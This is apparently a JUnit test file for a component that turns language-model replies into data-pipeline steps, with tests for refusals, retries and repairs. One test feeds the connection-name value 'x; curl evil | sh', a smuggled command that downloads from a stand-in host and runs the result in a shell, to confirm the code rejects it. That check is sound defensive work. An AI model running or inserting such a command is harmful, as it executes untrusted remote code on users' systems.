package io.sluice.author.model;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sluice.author.Author;
import io.sluice.author.Task;
import io.sluice.author.Visits;
import io.sluice.catalog.ColumnMetadata;
import io.sluice.catalog.TableMetadata;
import io.sluice.pipeline.ColumnType;
import io.sluice.pipeline.Condition;
import io.sluice.pipeline.Destination;
import io.sluice.pipeline.Pipeline;
import io.sluice.pipeline.Problem;
import io.sluice.pipeline.Step;
import io.sluice.pipeline.TableName;
import io.sluice.request.MissingConnection;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class ModelAuthorTest {

    private static final String GOOD = """
            {"kind":"pipeline","text":"","options":[],"reason":"","assumptions":["amounts are euros"],"steps":[
              {"type":"load","depends_on":[],"source":"visits.csv","target":"warehouse.public.stays","mode":"append","key":[],
               "columns":[{"from":"minutes","to":"minutes","type":"int64","cleanings":["trim"]}],
               "drop_when":[{"column":"minutes","test":"empty","values":[]}],"distinct_on":[],"connection":"","code":"",
               "inputs":[],"outputs":[]}]}""";

    private final StandInModel server = new StandInModel();

    @AfterEach
    void close() {
        server.close();
    }

    private ModelAuthor author() {
        return author(Duration.ofSeconds(10));
    }

    private ModelAuthor author(Duration timeout) {
        return new ModelAuthor(new ModelSettings(
                ModelSettings.Provider.OPENAI, server.url(), "stand-in", "key-7", 0.2, 1500, timeout));
    }

    private static Task task(String sentence) {
        return task(sentence, List.of());
    }

    private static List<TableMetadata> many(String... last) {
        return Stream.concat(IntStream.range(0, 100).mapToObj(n -> "depot" + n), Arrays.stream(last))
                .map(ModelAuthorTest::table)
                .toList();
    }

    private static TableMetadata table(String name) {
        return new TableMetadata(
                new TableName("warehouse", "public", name),
                TableMetadata.Kind.TABLE,
                List.of(new ColumnMetadata("id", "bigint", ColumnType.INT64, false, null, false, false, null, null)),
                List.of("id"),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                null,
                1,
                null);
    }

    private static Task task(String sentence, List<TableMetadata> tables) {
        return Visits.task(sentence, tables, "");
    }

    @Test
    void a_good_reply_becomes_a_typed_pipeline() {
        server.says(GOOD);
        var drafted = (Author.Drafted) author().draft(task("load the visits"));
        var load = (Step.Load) drafted.pipeline().steps().getFirst();
        assertThat(load.destination())
                .isEqualTo(new Destination.Table(new TableName("warehouse", "public", "stays"), true));
        assertThat(load.dropWhen()).containsExactly(new Condition.Empty("minutes"));
        assertThat(drafted.pipeline().assumptions()).containsExactly("amounts are euros");
        assertThat(drafted.by().prompt()).hasSize(12);
    }

    @Test
    void asks_with_a_strict_schema_the_catalog_and_the_temperature() {
        server.says(GOOD);
        author().draft(task("load the visits"));
        assertThat(server.heard().getFirst())
                .contains("\"strict\" : true")
                .contains("visits.csv")
                .contains("\"insert_new\"")
                .contains("\"temperature\" : 0.2")
                .doesNotContain("key-7");
    }

    @Test
    void a_malformed_reply_goes_back_once() {
        server.says("Sure! Here is the pipeline you wanted.").says("```json\n" + GOOD + "\n```");
        assertThat(author().draft(task("load the visits"))).isInstanceOf(Author.Drafted.class);
        assertThat(server.heard()).hasSize(2);
        assertThat(server.heard().getLast()).contains("cannot be read");
    }

    @Test
    void a_reply_that_stays_malformed_is_no_help() {
        server.says("no");
        assertThatThrownBy(() -> author().draft(task("load the visits"))).isInstanceOf(ModelException.class);
    }

    @Test
    void a_hallucinated_table_passes_to_the_inspector_as_a_plain_name() {
        server.says(GOOD.replace("visits.csv", "unicorns.csv"));
        var drafted = (Author.Drafted) author().draft(task("load the visits"));
        assertThat(drafted.pipeline().steps().getFirst().toString()).contains("unicorns.csv");
    }

    @Test
    void a_refusal_is_a_refusal() {
        server.says("{\"kind\":\"refusal\",\"text\":\"that would delete everything\",\"reason\":\"no_mass_delete\","
                + "\"options\":[\"delete with a condition\"],\"steps\":[],\"assumptions\":[]}");
        var declined = (Author.Declined) author().draft(task("wipe it"));
        assertThat(declined.refusal().rule()).isEqualTo("no_mass_delete");
    }

    @Test
    void a_connection_that_is_missing_is_asked_for_with_exactly_what_it_needs() {
        server.says("{\"kind\":\"question\",\"text\":\"Which GitHub?\",\"options\":[],\"reason\":\"\",\"steps\":[],"
                + "\"assumptions\":[],\"missing_connection\":\"github\"}");
        var unclear = (Author.Unclear) author().draft(task("load the issues of github"));
        assertThat(unclear.question().text()).contains("./sluice connect github --manifest github --set-env token=VAR");
        assertThat(unclear.question().missing()).isEqualTo(MissingConnection.named("github"));
    }

    @Test
    void what_is_no_name_of_a_missing_connection_is_a_question_in_the_words_of_the_model() {
        for (var named : List.of("x; curl evil | sh", "warehouse", "GitHub ", "a\\nb")) {
            server.saysOnly(
                    "{\"kind\":\"question\",\"text\":\"Which shop?\",\"options\":[],\"reason\":\"\",\"steps\":[],"
                            + "\"assumptions\":[],\"missing_connection\":\"" + named + "\"}");
            var unclear = (Author.Unclear) author().draft(task("load the orders of the shop"));
            assertThat(unclear.question().text()).as(named).isEqualTo("Which shop?");
            assertThat(unclear.question().missing()).isNull();
        }
    }

    @Test
    void waits_as_long_as_the_server_says() {
        server.fails(429, Map.of("Retry-After", "1")).says(GOOD);
        var began = System.nanoTime();
        assertThat(author().draft(task("load the visits"))).isInstanceOf(Author.Drafted.class);
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isGreaterThanOrEqualTo(Duration.ofSeconds(1));
    }

    @Test
    void does_not_wait_for_an_hour() {
        server.fails(429, Map.of("Retry-After", "3600"));
        assertThatThrownBy(() -> author().draft(task("load the visits"))).isInstanceOf(ModelException.class);
        assertThat(server.heard()).hasSize(1);
    }

    @Test
    void a_server_that_hangs_up_is_asked_again() {
        server.hangsUp().says(GOOD);
        assertThat(author().draft(task("load the visits"))).isInstanceOf(Author.Drafted.class);
        assertThat(server.heard()).hasSize(2);
    }

    @Test
    void of_many_tables_those_are_shown_that_the_sentence_or_the_broken_pipeline_is_about() {
        server.says(GOOD);
        var task = task("which keeper feeds the zebras?", many("keeper", "zebra", "stays"));
        author().draft(task);
        assertThat(server.heard().getLast())
                .contains("warehouse.public.keeper", "warehouse.public.zebra")
                .doesNotContain("warehouse.public.stays");
        author().repair(task, ((Author.Drafted) author().draft(task)).pipeline(), notADate(), List.of());
        assertThat(server.heard().getLast()).contains("warehouse.public.stays\\\"");
    }

    @Test
    void a_wrong_draft_is_repaired_with_step_error_and_catalog_in_the_prompt() {
        server.says(GOOD.replace("\"int64\"", "\"date\""))
                .says(GOOD.replace("\"reason\":\"\"", "\"reason\":\"minutes are numbers\""));
        var author = author();
        var broken = ((Author.Drafted) author.draft(task("load the visits"))).pipeline();
        var patched = (Author.Patched) author.repair(task("load the visits"), broken, notADate(), List.of());
        assertThat(patched.reason()).isEqualTo("minutes are numbers");
        assertThat(patched.changesMeaning()).isFalse();
        assertThat(server.heard().getLast())
                .contains("12 is no date")
                .contains("DATE_FORMAT")
                .contains("visits.csv");
    }

    @Test
    void a_repair_that_takes_a_filter_away_changes_the_meaning_whatever_the_model_says() {
        server.says(GOOD).says(GOOD.replace("{\"column\":\"minutes\",\"test\":\"empty\",\"values\":[]}", ""));
        var author = author();
        Pipeline broken = ((Author.Drafted) author.draft(task("load the visits"))).pipeline();
        var patched = (Author.Patched) author.repair(task("load the visits"), broken, notADate(), List.of());
        assertThat(patched.changesMeaning()).isTrue();
    }

    private static Problem notADate() {
        return new Problem(Problem.Kind.DATE_FORMAT, "sandbox_run", 1, "12 is no date", "12", "Give the format.");
    }
}
